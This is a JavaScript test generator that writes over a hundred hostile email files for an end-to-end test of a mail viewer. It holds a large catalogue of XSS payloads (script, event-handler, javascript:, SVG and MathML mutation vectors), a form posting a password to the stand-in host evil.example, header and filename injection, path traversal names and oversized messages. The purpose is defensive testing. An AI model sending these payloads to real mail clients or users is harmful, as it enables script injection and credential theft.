// Hostile mail for test/e2e/hostile.mjs: every message tries to run script,
// to reach a remote host, or to break the page that shows it.  Remote URLs
// point at evil.example (Chromium is told it is 127.0.0.2) and at
// 127.0.0.2:PORT, where the test counts every connection.  Each Subject
// starts with "[Hnnn]" (unless the Subject is the attack).
//
//   node test/e2e/hostile_gen.mjs DIR PORT   writes DIR/nnn.eml
//   import { hostileMessages } from './hostile_gen.mjs'
import { mkdirSync, writeFileSync } from 'node:fs';

const CRLF = '\r\n';
const b64 = (s) => Buffer.from(s).toString('base64').replace(/.{76}/g, `$&${CRLF}`);
// The markers a script would reach for; hostile.mjs watches all of them.
const JS = "top.__pwned&&top.__pwned(document.URL);alert('PWNED');console.log('PWNED')";

function headers(n, subject, extra = []) {
	return [
		'From: "Mallory" <mallory@evil.example>',
		'To: victim@victim.test',
		`Subject: ${subject}`,
		`Date: Mon, 1 Jan 2024 10:${String(n % 60).padStart(2, '0')}:00 +0000`,
		`Message-ID: <hostile-${n}@evil.example>`,
		'MIME-Version: 1.0',
		...extra,
	].join(CRLF);
}

// The HTML bodies: one attack each.
function htmlVectors(R, L) {
	return [
		['script tag', `<p>hi</p><script>${JS}</script>`],
		['script in head', `<html><head><script>${JS}</script></head><body>x</body></html>`],
		['external script', `<script src="${R}/s.js"></script><script src="${L}/s2.js"></script>`],
		['img onerror', `<img src=x onerror="${JS}">`],
		['body onload', `<body onload="${JS}">text</body>`],
		['svg onload', `<svg onload="${JS}"><circle r=5 /></svg>`],
		['svg script', `<svg><script>${JS}</script></svg>`],
		['svg script xlink', `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><script xlink:href="${R}/svg.js"></script></svg>`],
		['svg foreignObject iframe', `<svg><foreignObject width=100 height=100><iframe src="javascript:${JS}"></iframe><img src=x onerror="${JS}"></foreignObject></svg>`],
		['svg foreignObject body', `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${JS}</script></body></foreignObject></svg>`],
		['svg a xlink:href', `<svg><a xlink:href="javascript:${JS}"><text x=10 y=20>click</text></a></svg>`],
		['svg animate href', `<svg><a><animate attributeName=href values="javascript:${JS}"/><text x=20 y=20>x</text></a></svg>`],
		['svg set onbegin', `<svg><set attributeName=x to=1 onbegin="${JS}"/><animate onbegin="${JS}" attributeName=x dur=1s /></svg>`],
		['svg image remote', `<svg><image href="${R}/svgimg.png" width=10 height=10 /><image xlink:href="${L}/svgimg2.png" /></svg>`],
		['svg use remote', `<svg><use href="${R}/sprite.svg#x" /><use xlink:href="${L}/sprite2.svg#y"/></svg>`],
		['svg style import', `<svg><style>@import url(${R}/svgstyle.css);</style></svg>`],
		['svg mXSS style', `<svg><style><img src=x onerror="${JS}"></style></svg>`],
		['MathML xlink:href', `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">click<mtext>x</mtext></maction></math>`],
		['MathML href', `<math href="javascript:${JS}"><mi>x</mi></math>`],
		['MathML mglyph style mXSS', `<math><mtext><table><mglyph><style><img src=x onerror="${JS}">`],
		['MathML annotation-xml', `<math><annotation-xml encoding="text/html"><img src=x onerror="${JS}"></annotation-xml></math>`],
		['CSS expression', `<div style="width: expression(${JS})">ie</div>`],
		['CSS url remote', `<div style="background:url(${R}/bg.png)">bg</div><p style="background-image:url('${L}/bg2.png')">bg2</p>`],
		['CSS image-set', `<div style="background-image:image-set('${R}/set.png' 1x)">set</div>`],
		['CSS escaped url', `<div style="background:u\\72l(${R}/esc.png)">esc</div><div style="background:url&#40;${L}/ent.png&#41;">ent</div>`],
		['style @import', `<style>@import url(${R}/import.css); @import '${L}/import2.css';</style><p>x</p>`],
		['style url', `<style>body{background:url('${R}/body.png')} p{list-style:url(${L}/li.png)}</style><p>x</p>`],
		['style escaped import', `<style>@im\\port '${R}/escimport.css';</style>`],
		['style font-face', `<style>@font-face{font-family:x;src:url(${R}/font.woff)} p{font-family:x}</style><p>font</p>`],
		['style behavior binding', `<div style="behavior:url(${R}/x.htc);-moz-binding:url(${L}/x.xml#x)">b</div>`],
		['link stylesheet', `<link rel=stylesheet href="${R}/x.css"><link rel=stylesheet href="${L}/y.css"><p>x</p>`],
		['link prefetch preconnect', `<link rel=prefetch href="${R}/pf"><link rel=preconnect href="${L}"><link rel=dns-prefetch href="//evil.example"><link rel=preload as=image href="${R}/pl.png">`],
		['meta refresh remote', `<meta http-equiv="refresh" content="0;url=${R}/refresh"><p>x</p>`],
		['meta refresh javascript', `<meta http-equiv="refresh" content="0;url=javascript:${JS}"><p>x</p>`],
		['meta refresh data', `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${JS}</script>">`],
		['meta set-cookie and CSP', `<meta http-equiv="Set-Cookie" content="__Host-ers_session=x; Path=/"><meta http-equiv="Content-Security-Policy" content="script-src *">x`],
		['base href', `<base href="${R}/"><img src="rel.png"><a href="rel">rel</a>`],
		['base javascript', `<base href="javascript:${JS}//"><a href="x">x</a><img src="y">`],
		['form javascript action', `<form action="javascript:${JS}"><input type=submit value=go></form>`],
		['form remote post', `<form action="${R}/steal" method=post><input name=pw value=secret><button>go</button></form>`],
		['form self post', `<form action="/password" method=post><input name=current><button>change</button></form>`],
		['formaction', `<form><button formaction="javascript:${JS}">x</button><input type=image src="${L}/in.png" formaction="${R}/x"></form>`],
		['a javascript', `<a href="javascript:${JS}">click</a><a href=" javascript:${JS}">sp</a><a href="JaVaScRiPt:${JS}">case</a>`],
		['a javascript entities', `<a href="jav&#x09;ascript:${JS}">tab</a><a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">ent</a><a href="java\0script:alert(1)">nul</a>`],
		['a vbscript and data', `<a href="vbscript:msgbox(1)">vb</a><a href="data:text/html,<script>${JS}</script>">data</a><a href="data:text/html;base64,${Buffer.from(`<script>${JS}</script>`).toString('base64')}">b64</a>`],
		['a ping', `<a ping="${R}/ping" href="https://evil.example/">ping</a>`],
		['img data svg script', `<img src="data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script></svg>`).toString('base64')}">`],
		['img remote http', `<img src="${L}/remote.png"><img src="${R}/remote2.png" width=1 height=1>`],
		['img remote https', `<img src="${R.replace('http:', 'https:')}/remote3.png">`],
		['img javascript src', `<img src="javascript:${JS}"><img dynsrc="${R}/dyn" lowsrc="${L}/low">`],
		['img srcset', `<img srcset="${R}/1x.png 1x, ${L}/2x.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`],
		['picture source srcset', `<picture><source srcset="${R}/p.webp" type="image/webp"><img src="${L}/p.png"></picture>`],
		['iframe javascript', `<iframe src="javascript:${JS}"></iframe>`],
		['iframe remote', `<iframe src="${R}/frame"></iframe><iframe src="${L}/frame2"></iframe>`],
		['iframe srcdoc', `<iframe srcdoc="<script>${JS}</script>"></iframe>`],
		['iframe data', `<iframe src="data:text/html,<script>${JS}</script>"></iframe>`],
		['frameset', `<frameset><frame src="${R}/frame3"><frame src="javascript:${JS}"></frameset>`],
		['object remote', `<object data="${R}/obj"></object><object data="${L}/obj.swf" type="application/x-shockwave-flash"></object>`],
		['object javascript data', `<object data="javascript:${JS}"></object><object type="text/html" data="data:text/html,<script>${JS}</script>"></object>`],
		['embed', `<embed src="${L}/embed"><embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${JS}'/>">`],
		['applet', `<applet code="Evil.class" codebase="${R}/"></applet>`],
		['video audio poster', `<video poster="${R}/poster.png" src="${L}/v.mp4" autoplay></video><audio src="${R}/a.mp3" autoplay></audio>`],
		['video source track', `<video><source src="${R}/v.webm"><track src="${L}/t.vtt"></video>`],
		['table and body background', `<body background="${R}/bodybg.png"><table background="${L}/tbg.png"><tr><td background="${R}/tdbg.png">x</td></tr></table></body>`],
		['input image', `<input type=image src="${R}/input.png">`],
		['details ontoggle', `<details open ontoggle="${JS}"><summary>s</summary>x</details>`],
		['marquee onstart', `<marquee onstart="${JS}">m</marquee>`],
		['autofocus onfocus', `<input autofocus onfocus="${JS}"><textarea autofocus onfocus="${JS}"></textarea>`],
		['custom element handler', `<x-evil onclick="${JS}" onmouseover="${JS}" style="display:block;width:100%;height:500px">hover</x-evil>`],
		['handler case and spacing', `<img src=x ONERROR="${JS}"><img/src=x/onerror=alert(1)><img src=x onerror\t=alert(1)>`],
		['isindex', `<isindex action="javascript:${JS}" type=image>`],
		['html manifest', `<html manifest="${R}/m.appcache"><body>x</body></html>`],
		['template script', `<template><script>${JS}</script><img src=x onerror="${JS}"></template>`],
		['noscript attribute break', `<noscript><p title="</noscript><img src=x onerror=${JS.replace(/ /g, '')}>"></noscript>`],
		['xmp plaintext listing', `<xmp><script>${JS}</script></xmp><listing><img src=x onerror=alert(1)></listing><plaintext><script>${JS}</script>`],
		['textarea title break', `<textarea><script>${JS}</script></textarea><title><img src=x onerror=alert(1)></title>`],
		['split script tag', `<scr<script>ipt>${JS}</scr</script>ipt><<script>script>alert(1)<</script>/script>`],
		['comment tricks', `<!--<script>${JS}//--><script>${JS}</script><!-- --!><img src=x onerror=alert(1)> --><!--[if IE]><script>alert(1)</script><![endif]-->`],
		['CDATA tricks', `<![CDATA[<script>${JS}</script>]]><svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>`],
		['unclosed markup', `<div><p><b><i><table><tr><td><a href="http://ok.example/"><img src=x onerror="${JS}"`],
		['unclosed attribute', `<img src="x onerror=alert(1)//><p title='<script>${JS}</script>`],
		['processing instruction', `<?xml version="1.0"?><?xml-stylesheet href="${R}/pi.xsl"?><p>x</p>`],
		['doctype tricks', `<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]><p>&x;</p>`],
		['null bytes', `<scr\0ipt>${JS}</scr\0ipt><img src=x on\0error=alert(1)>`],
		['overlay fixed', `<a href="https://evil.example/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red">full cover</a>`],
		['huge element', `<div style="width:100000px;height:100000px;background:linear-gradient(red,blue)">huge</div>`],
		['deep nesting', `${'<div>'.repeat(6000)}deep${'</div>'.repeat(6000)}`],
		['many attributes', `<p ${Array.from({ length: 3000 }, (_, i) => `a${i}="${i}"`).join(' ')}>attrs</p>`],
		['long word', `<p>${'W'.repeat(200000)}</p>`],
		['cid html part ref', `<img src="cid:part1@evil"><iframe src="cid:part1@evil"></iframe>`],
		['window.opener target', `<a href="${R}/opener" target="_top">top</a><a href="${R}/o2" target="_parent">parent</a><form target=_top action="${R}/f"><button>f</button></form>`],
		['object param', `<object><param name=movie value="${R}/m.swf"><param name=src value="javascript:${JS}"><embed src="${L}/e.swf"></object>`],
		['svg feImage', `<svg><filter id=f><feImage href="${R}/fe.png"/></filter><rect filter="url(#f)" width=10 height=10 /></svg>`],
		['svg xml-stylesheet and handlers', `<svg><g onmouseover="${JS}"><rect width=100 height=100 /></g><discard onbegin="${JS}"/></svg>`],
		['css in attribute of svg', `<svg><rect style="fill:url(${R}/fill.svg#p)" width=10 height=10 /><rect fill="url(${L}/fill2.svg#p)" width=10 height=10 /></svg>`],
		['srcdoc entity', `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`],
		['link in style attr import', `<p style="@import url(${R}/attrimport.css)">x</p>`],
		['javascript in css url', `<div style="background:url(javascript:${JS})">x</div>`],
	];
}

// hostileMessages(PORT): [{ name, source }], at least 100 of them.
export function hostileMessages(port) {
	const R = `http://evil.example:${port}`, L = `http://127.0.0.2:${port}`;
	const out = [];
	let n = 0;
	const add = (name, build) => {
		n++;
		const tag = `[H${String(n).padStart(3, '0')}]`;
		out.push({ name: `${tag} ${name}`, source: build(n, `${tag} ${name}`) });
	};
	const html = (subject, body, ct = 'text/html; charset=utf-8') => (k, s) =>
		`${headers(k, subject ?? s, [`Content-Type: ${ct}`])}${CRLF}${CRLF}${body}${CRLF}`;

	for (const [name, body] of htmlVectors(R, L))
		add(name, html(null, body));

	// The same attacks inside multipart/alternative and as a forwarded message.
	const alt = (inner) => (k, s) => `${headers(k, s, ['Content-Type: multipart/alternative; boundary="alt"'])}${CRLF}${CRLF}` +
		`--alt${CRLF}Content-Type: text/plain${CRLF}${CRLF}plain <script>${JS}</script> javascript:alert(1)${CRLF}` +
		`--alt${CRLF}Content-Type: text/html${CRLF}${CRLF}${inner}${CRLF}--alt--${CRLF}`;
	add('alternative with script', alt(`<script>${JS}</script><img src="${L}/alt.png" onerror="${JS}">`));
	add('forwarded message/rfc822', (k, s) => `${headers(k, s, ['Content-Type: multipart/mixed; boundary="fw"'])}${CRLF}${CRLF}` +
		`--fw${CRLF}Content-Type: text/plain${CRLF}${CRLF}see below${CRLF}--fw${CRLF}Content-Type: message/rfc822${CRLF}${CRLF}` +
		`From: x@evil.example${CRLF}Subject: <img src=x onerror=alert(1)>${CRLF}Content-Type: text/html${CRLF}${CRLF}` +
		`<script>${JS}</script><iframe src="${R}/inner"></iframe>${CRLF}--fw--${CRLF}`);
	add('plain text with markup', (k, s) => `${headers(k, s, ['Content-Type: text/plain; charset=utf-8'])}${CRLF}${CRLF}` +
		`<script>${JS}</script>${CRLF}<img src=x onerror=alert(1)>${CRLF}javascript:alert(1)${CRLF}${L}/plain-link${CRLF}`);
	add('utf-7 charset', html(null, '+ADw-script+AD4-alert(1)+ADw-/script+AD4- +ADw-img src=x onerror=alert(1)+AD4-', 'text/html; charset=utf-7'));
	add('quoted-printable split tag', (k, s) => `${headers(k, s, ['Content-Type: text/html', 'Content-Transfer-Encoding: quoted-printable'])}` +
		`${CRLF}${CRLF}<scr=${CRLF}ipt>alert(1)</scr=${CRLF}ipt><img src=3Dx one=${CRLF}rror=3Dalert(1)>${CRLF}`);
	add('broken base64', (k, s) => `${headers(k, s, ['Content-Type: text/html', 'Content-Transfer-Encoding: base64'])}` +
		`${CRLF}${CRLF}${b64(`<script>${JS}</script>`)}!!!@@@###${CRLF}PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg${CRLF}`);
	add('unknown transfer encoding', (k, s) => `${headers(k, s, ['Content-Type: text/html', 'Content-Transfer-Encoding: x-evil'])}` +
		`${CRLF}${CRLF}<script>${JS}</script>${CRLF}`);
	add('html disguised as plain with inline disposition', (k, s) => `${headers(k, s, ['Content-Type: multipart/mixed; boundary="m"'])}` +
		`${CRLF}${CRLF}--m${CRLF}Content-Type: text/plain${CRLF}${CRLF}body${CRLF}--m${CRLF}Content-Type: text/html; name="page.html"${CRLF}` +
		`Content-Disposition: inline${CRLF}${CRLF}<script>${JS}</script>${CRLF}--m--${CRLF}`);
	add('svg image attachment with script', (k, s) => `${headers(k, s, ['Content-Type: multipart/mixed; boundary="m"'])}` +
		`${CRLF}${CRLF}--m${CRLF}Content-Type: text/plain${CRLF}${CRLF}an image${CRLF}--m${CRLF}Content-Type: image/svg+xml; name="pic.svg"${CRLF}` +
		`Content-Disposition: inline; filename="pic.svg"${CRLF}Content-ID: <svg1@evil>${CRLF}${CRLF}` +
		`<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"><script>${JS}</script></svg>${CRLF}--m--${CRLF}`);
	add('cid image that is html', (k, s) => `${headers(k, s, ['Content-Type: multipart/related; boundary="r"'])}` +
		`${CRLF}${CRLF}--r${CRLF}Content-Type: text/html${CRLF}${CRLF}<img src="cid:part1@evil"><a href="cid:part1@evil">cid</a>${CRLF}` +
		`--r${CRLF}Content-Type: text/html${CRLF}Content-ID: <part1@evil>${CRLF}${CRLF}<script>${JS}</script>${CRLF}--r--${CRLF}`);
	add('missing closing boundary', (k, s) => `${headers(k, s, ['Content-Type: multipart/mixed; boundary="open"'])}` +
		`${CRLF}${CRLF}--open${CRLF}Content-Type: text/html${CRLF}${CRLF}<b>never closed<script>${JS}</script>${CRLF}`);
	add('boundary never used', (k, s) => `${headers(k, s, ['Content-Type: multipart/mixed; boundary="nothere"'])}` +
		`${CRLF}${CRLF}<script>${JS}</script>just text${CRLF}`);
	add('null bytes and control characters in body', (k, s) => `${headers(k, s, ['Content-Type: text/plain'])}${CRLF}${CRLF}` +
		`a\0b\x07c\x1b[31mred\x1b[0m\x08\x7f ${'\u202e'}txt.exe${CRLF}`);

	// Hostile headers.
	add('very long subject', html(`[H${String(n + 1).padStart(3, '0')}] ${'Long subject '.repeat(800)}`, '<p>long</p>'));
	add('encoded-word with control characters', html(
		`=?UTF-8?B?${Buffer.from(`[H${String(n + 1).padStart(3, '0')}] bell\x07 esc\x1b[2J nul\0 cr\rlf\n<script>alert(1)</script>`).toString('base64')}?=`,
		'<p>ctl</p>'));
	add('markup in subject', html(`[H${String(n + 1).padStart(3, '0')}] <img src=x onerror="${JS}"><script>${JS}</script>`, '<p>s</p>'));
	add('CR LF in names', (k, s) => [
		`From: =?UTF-8?Q?Evil=0D=0ABcc:_victim@victim.test=0D=0A=0D=0A<script>alert(1)</script>?= <mallory@evil.example>`,
		`To: =?UTF-8?Q?To=0Ainjected:_yes?= <victim@victim.test>, "<img src=x onerror=alert(1)>" <x@evil.example>`,
		`Cc: "\u202eRTL cc" <cc@evil.example>`,
		`Subject: ${s}`, 'Date: Mon, 1 Jan 2024 10:00:00 +0000', `Message-ID: <hostile-${k}@evil.example>`,
		'MIME-Version: 1.0', 'Content-Type: text/plain', '', 'names'].join(CRLF) + CRLF);
	add('markup in from name', (k, s) => [`From: "<script>${JS}</script>" <"<img src=x onerror=alert(1)>"@evil.example>`,
		'To: victim@victim.test', `Subject: ${s}`, 'Date: Mon, 1 Jan 2024 10:00:00 +0000', 'MIME-Version: 1.0',
		'Content-Type: text/plain', '', 'from'].join(CRLF) + CRLF);
	add('no from, bad date, huge message-id', (k, s) => [`Subject: ${s}`, 'Date: the day after tomorrow at 99:99',
		`Message-ID: <${'x'.repeat(5000)}@evil.example>`, 'MIME-Version: 1.0', 'Content-Type: text/plain', '', 'odd headers'].join(CRLF) + CRLF);
	add('a thousand recipients', (k, s) => headers(k, s, [`Cc: ${Array.from({ length: 1000 }, (_, i) => `r${i}@evil.example`).join(`,${CRLF} `)}`,
		'Content-Type: text/plain']) + CRLF + CRLF + 'many' + CRLF);
	add('header folded many times', (k, s) => headers(k, `${s}${`${CRLF} fold`.repeat(2000)}`, ['Content-Type: text/plain']) + CRLF + CRLF + 'f' + CRLF);
	add('javascript in list-unsubscribe and reply-to', (k, s) => headers(k, s, [`List-Unsubscribe: <javascript:${JS}>`,
		'Reply-To: "<script>alert(1)</script>" <javascript:alert(1)>', 'Content-Type: text/plain']) + CRLF + CRLF + 'lu' + CRLF);

	// Hostile attachment names.
	const attach = (fname, extraParams = '') => (k, s) => `${headers(k, s, ['Content-Type: multipart/mixed; boundary="a"'])}` +
		`${CRLF}${CRLF}--a${CRLF}Content-Type: text/plain${CRLF}${CRLF}with an attachment${CRLF}--a${CRLF}` +
		`Content-Type: text/html; name=${fname}${CRLF}Content-Disposition: attachment; ${extraParams || `filename=${fname}`}${CRLF}` +
		`Content-Transfer-Encoding: base64${CRLF}${CRLF}${b64(`<script>${JS}</script>`)}${CRLF}--a--${CRLF}`;
	add('attachment ../../etc/passwd', attach('"../../etc/passwd"'));
	add('attachment backslashes', attach('"..\\\\..\\\\windows\\\\system32\\\\evil.dll"'));
	add('attachment name with quotes', attach('"a\\"b\'c.txt"'));
	add('attachment name with markup', attach('"<img src=x onerror=alert(1)>.html"'));
	add('attachment RTL override', attach(`"=?UTF-8?B?${Buffer.from('invoice\u202Efdp.exe').toString('base64')}?="`));
	add('attachment 300-char name', attach(`"${'n'.repeat(296)}.txt"`));
	add('attachment CR LF in name (RFC 2231)', attach('x', "filename*=utf-8''evil%0D%0AContent-Type%3A%20text%2Fhtml%0D%0A%0D%0A.txt"));
	add('attachment NUL in name', attach('x', "filename*=utf-8''a%00b.html"));
	add('attachment empty name', attach('""'));
	add('attachment dot names', attach('".htaccess"'));
	add('attachment semicolon header injection', attach('"x.txt; filename=evil.exe"'));
	add('attachment encoded-word control characters', attach(`"=?UTF-8?Q?bell=07esc=1B[2Jcr=0Dlf=0A.txt?="`));

	// Size and structure.
	add('5 MB body', (k, s) => `${headers(k, s, ['Content-Type: text/plain; charset=us-ascii'])}${CRLF}${CRLF}` +
		`${'A line of a very long message, repeated many times over and over. 0123456789\r\n'.repeat(65000)}`);
	add('a 1 MB line', (k, s) => `${headers(k, s, ['Content-Type: text/html'])}${CRLF}${CRLF}<p>${'x'.repeat(1 << 20)}</p>${CRLF}`);
	add('MIME nested 50 deep', (k, s) => {
		let body = `Content-Type: text/html${CRLF}${CRLF}<script>${JS}</script>deepest${CRLF}`;
		for (let d = 50; d >= 1; d--)
			body = `Content-Type: multipart/mixed; boundary="d${d}"${CRLF}${CRLF}--d${d}${CRLF}${body}--d${d}--${CRLF}`;
		return `${headers(k, s)}${CRLF}${body}`;
	});
	add('MIME nested 1000 deep', (k, s) => {
		let body = `Content-Type: text/plain${CRLF}${CRLF}deepest${CRLF}`;
		for (let d = 1000; d >= 1; d--)
			body = `Content-Type: multipart/mixed; boundary="e${d}"${CRLF}${CRLF}--e${d}${CRLF}${body}--e${d}--${CRLF}`;
		return `${headers(k, s)}${CRLF}${body}`;
	});
	add('500 parts', (k, s) => {
		let body = '';
		for (let p = 0; p < 500; p++)
			body += `--p${CRLF}Content-Type: ${p % 2 ? 'text/html' : 'application/octet-stream'}; name="part${p}.bin"${CRLF}` +
				`Content-Disposition: ${p % 3 ? 'attachment' : 'inline'}; filename="part${p}<b>.bin"${CRLF}${CRLF}` +
				`<script>${JS}</script>part ${p}${CRLF}`;
		return `${headers(k, s, ['Content-Type: multipart/mixed; boundary="p"'])}${CRLF}${CRLF}${body}--p--${CRLF}`;
	});
	add('5000 empty parts', (k, s) => `${headers(k, s, ['Content-Type: multipart/mixed; boundary="q"'])}${CRLF}${CRLF}` +
		`${`--q${CRLF}${CRLF}${CRLF}`.repeat(5000)}--q--${CRLF}`);
	return out;
}

if (import.meta.url === `file://${process.argv[1]}`) {
	const [dir, port] = process.argv.slice(2);
	if (!dir || !port) {
		console.error('usage: node hostile_gen.mjs DIR PORT');
		process.exit(64);
	}
	mkdirSync(dir, { recursive: true });
	const msgs = hostileMessages(Number(port));
	msgs.forEach((m, i) => writeFileSync(`${dir}/${String(i + 1).padStart(3, '0')}.eml`, m.source));
	console.log(`${msgs.length} messages in ${dir}`);
}
